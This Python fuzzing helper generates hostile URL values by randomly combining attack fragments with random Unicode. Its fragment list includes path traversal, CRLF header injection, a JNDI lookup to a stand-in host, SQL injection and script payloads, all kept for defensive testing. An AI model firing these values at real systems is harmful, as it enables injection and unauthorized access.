"""Values that try to leave their place in a URL."""

import random
from urllib.parse import quote

_PIECES = (
    "..",
    ".",
    "/",
    "//",
    "\\",
    "?",
    "#",
    "@",
    ":",
    ";",
    "&",
    "=",
    "+",
    "%",
    "%2e%2e",
    "%2E%2E%2F",
    "%252e%252e%252f",
    "%00",
    "%0d%0aHost: evil.test",
    "%c0%ae",
    "%u002e",
    "\x00",
    "\r\n",
    "\r\nX-Evil: 1\r\n\r\n",
    "\t",
    " ",
    "\u2028",
    "\u0085",
    "\ufeff",
    "\uff0e\uff0e\uff0f",
    "\u2215",
    "\u202e",
    "\ud800",
    "\udcff",
    "é",
    "e\u0301",
    "😀",
    "evil.test",
    "http://evil.test/",
    "//evil.test/",
    "user:pass@evil.test",
    "javascript:alert(1)",
    "{id}",
    "${jndi:ldap://evil.test}",
    "' OR 1=1--",
    "<script>",
    "../../admin",
    "..;/",
    "/.",
    "/..",
    "[::1]",
    "127.0.0.1",
    "null",
    "true",
    "0",
    "-1",
    "a" * 300,
)
WHOLE_VALUES = ("", ".", "..", "...", "%2e", "%2e%2e", "/", "//", "\x00", " ", "\ud800", "~", "*")


def hostile_value(chance: random.Random) -> str:
    """Return known attacks joined at random, or any text at all."""
    kind = chance.random()
    if kind < 0.02:
        return chance.choice(WHOLE_VALUES)
    if kind < 0.75:
        text = "".join(chance.choices(_PIECES, k=chance.randrange(1, 6)))
    else:
        text = "".join(map(_letter, [chance] * chance.randrange(1, 24)))
    if kind > 0.9:
        return quote(text, safe="", errors="ignore")
    return text


def _letter(chance: random.Random) -> str:
    """Any character: control, ASCII, the rest of the first plane, or beyond."""
    most = chance.choice((0x20, 0x7F, 0x100, 0xFFFF, 0x10FFFF))
    return chr(chance.randrange(most))
